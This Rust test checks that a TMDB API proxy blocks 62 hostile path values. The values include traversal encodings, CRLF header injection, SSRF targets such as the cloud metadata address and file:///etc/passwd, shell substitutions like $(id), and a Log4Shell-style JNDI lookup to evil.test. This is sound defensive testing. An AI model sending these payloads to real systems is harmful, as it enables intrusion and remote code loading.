//! Path traversal and injection: none of these paths reaches TMDB.

use crate::tmdb_server::TmdbServer;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Values for an id, a media type, a size or a file name.
const HOSTILE: [&str; 62] = [
    "..",
    "../",
    "..%2f",
    "%2e%2e",
    "%2e%2e%2f",
    "%2E%2E%2F",
    "..%5c",
    "..\\",
    "%252e%252e%252f",
    "..%252f",
    "%c0%ae%c0%ae/",
    "%c0%ae",
    "%e0%80%ae",
    "%f0%80%80%ae",
    "..%c0%af",
    "..%ef%bc%8f",
    "....//",
    "..;/",
    ".%00./",
    "%00",
    "550%00",
    "550%00.jpg",
    "%0d%0a",
    "550%0d%0aHost:%20evil.test",
    "%0a",
    "%09",
    "%20",
    "550%20",
    "550%3fapi_key=x",
    "550%23",
    "@evil.test",
    "evil.test",
    "//evil.test",
    "%2f%2fevil.test",
    "\\\\evil.test",
    "http://evil.test/",
    "http:%2f%2fevil.test",
    "http%3a%2f%2f169.254.169.254%2flatest",
    "file:%2f%2f%2fetc%2fpasswd",
    ":80",
    "550:80",
    "localhost",
    "127.0.0.1",
    "[::1]",
    "550;x",
    "550,551",
    "550&x=y",
    "550%26x=y",
    "-1",
    "1e3",
    "0x226",
    "%35%35%30",
    "٥٥٠",
    "NaN",
    "{id}",
    "*",
    "'",
    "\"",
    "`id`",
    "$(id)",
    "${jndi:ldap://evil.test}",
    "%ff%fe",
];

/// Sends the request line unchanged, as no HTTP client would, and returns the status.
async fn send(server: &TmdbServer, target: &str) -> u16 {
    let mut stream = TcpStream::connect(server.app.address).await.unwrap();
    let token = server.anna.token.as_deref().unwrap();
    let request = format!(
        "GET {target} HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n",
        server.app.address
    );
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let status = answer.split(' ').nth(1).unwrap_or_else(|| panic!("{target}: {answer:?}"));
    status.parse().unwrap()
}

#[tokio::test]
async fn no_path_traversal_or_injection_reaches_tmdb() {
    let server = TmdbServer::proxied().await;
    let mut sent = 0;
    for hostile in HOSTILE {
        let mut targets = vec![
            format!("/3/movie/{hostile}"),
            format!("/3/movie/{hostile}/credits"),
            format!("/3/tv/1396/season/{hostile}"),
            format!("/3/trending/{hostile}/week"),
            format!("/3/discover/{hostile}"),
            format!("/3/{hostile}"),
            format!("/3/{hostile}/movie/550"),
            format!("/3/movie/550/{hostile}"),
            format!("/t/p/{hostile}/abc.jpg"),
            format!("/t/p/w500/{hostile}"),
            format!("/t/p/{hostile}"),
        ];
        // Letters and digits are a valid file name, also when percent-encoded.
        let name = hostile.replace("%35%35%30", "550");
        if !name.chars().all(|letter| letter.is_ascii_alphanumeric()) {
            targets.push(format!("/t/p/w500/{hostile}.jpg"));
        }
        sent += targets.len();
        for target in targets {
            let status = send(&server, &target).await;
            assert!((200..500).contains(&status), "{target}: {status}");
            assert_eq!(server.fake.total(), 0, "{target} was passed on");
        }
    }
    println!("figure: {sent} hostile paths, {} passed on", server.fake.total());
    assert_eq!(send(&server, "/3/movie/550").await, 200);
    assert_eq!(server.fake.total(), 1, "a valid path is passed on");
}
